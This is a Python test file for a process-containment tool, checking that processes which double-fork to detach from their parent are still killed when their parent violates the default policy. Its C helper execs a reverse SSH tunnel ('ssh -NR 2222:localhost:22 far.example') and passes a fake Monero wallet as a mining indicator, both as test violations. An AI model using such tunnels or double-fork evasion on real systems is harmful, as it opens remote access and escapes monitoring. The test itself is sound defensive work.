"""kill-process takes every descendant of the violator (issue 11), through
`pycontain run` with the built-in default policy.

Two violators double-fork (fork; the child calls setsid, forks and exits, so
the grandchild is reparented away and /proc no longer links it to the
violator); the grandchild writes its sentinel 0.5 s later:
* a shell-like program that double-forks, then execs `ssh -NR ...` (held by
  the kernel, killed by the controller);
* a program with a Monero wallet in argv (judged in user space after the
  exec: it runs for a moment) that double-forks at once.
The same agent runs bare first: both sentinels are written. Under pycontain
neither is: the grandchildren died with their violators.
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
from exec_harness import ssh_and_innocent

PYCONTAIN = [sys.executable, "-m", "pycontain.cli"]
# the agent runs programs from pytest's root-only tmp_path: this test is about lineage, not uids
AS_ROOT = ["run", "--user", "root"]
ROOT_RUN = PYCONTAIN + AS_ROOT
WALLET = "48" + "A" * 93

HELPER_C = r"""
#include <fcntl.h>
#include <stdlib.h>
#include <sys/wait.h>
#include <unistd.h>
int main(int argc, char **argv) {
    const char *s = getenv("SENTINEL"), *then = getenv("THEN_EXEC");
    if (getenv("DOUBLE")) {
        pid_t c = fork();
        if (c == 0) {
            setsid();
            if (fork() > 0) _exit(0);
            usleep(500000);
            if (s) close(open(s, O_CREAT | O_WRONLY, 0644));
            _exit(0);
        }
        waitpid(c, 0, 0);
        unsetenv("DOUBLE");
    }
    if (then) {
        char *args[] = {"ssh", "-NR", "2222:localhost:22", "far.example", 0};
        unsetenv("THEN_EXEC");
        execv(then, args);
    }
    usleep(1200000);
    return 0;
}
"""


@pytest.fixture(scope="module")
def helpers(tmp_path_factory) -> Path:
    return ssh_and_innocent(tmp_path_factory.mktemp("lineage"), HELPER_C)


def agent_script(helpers: Path, out: Path) -> Path:
    s = out / "agent.sh"
    s.write_text(f"""#!/bin/sh
DOUBLE=1 SENTINEL={out}/before-exec THEN_EXEC={helpers}/ssh {helpers}/innocent
DOUBLE=1 SENTINEL={out}/after-exec {helpers}/innocent {WALLET}
sleep 1.5
""")
    s.chmod(0o755)
    return s


SENTINELS = ("before-exec", "after-exec")


def test_double_forked_grandchildren_die_with_the_violator(privileged, helpers, tmp_path):
    bare, contained = tmp_path / "bare", tmp_path / "contained"
    for d in (bare, contained):
        d.mkdir()
    subprocess.run(["/bin/sh", str(agent_script(helpers, bare))], check=True, timeout=60)
    assert all((bare / n).exists() for n in SENTINELS), sorted(p.name for p in bare.iterdir())

    audit = tmp_path / "audit.jsonl"
    # the agent lives on 1.5 s after the violations: its cgroup is not torn
    # down before the grandchildren would have written their sentinels
    r = subprocess.run(ROOT_RUN + ["--name", "t-lineage", "--audit-log", str(audit), "--",
                                    "/bin/sh", str(agent_script(helpers, contained))],
                       capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stderr
    made = sorted(p.name for p in contained.iterdir())
    for n in SENTINELS:
        assert not (contained / n).exists(), f"{n}: a double-forked grandchild outlived its violator ({made})"
    assert "descendant of pid" in audit.read_text()
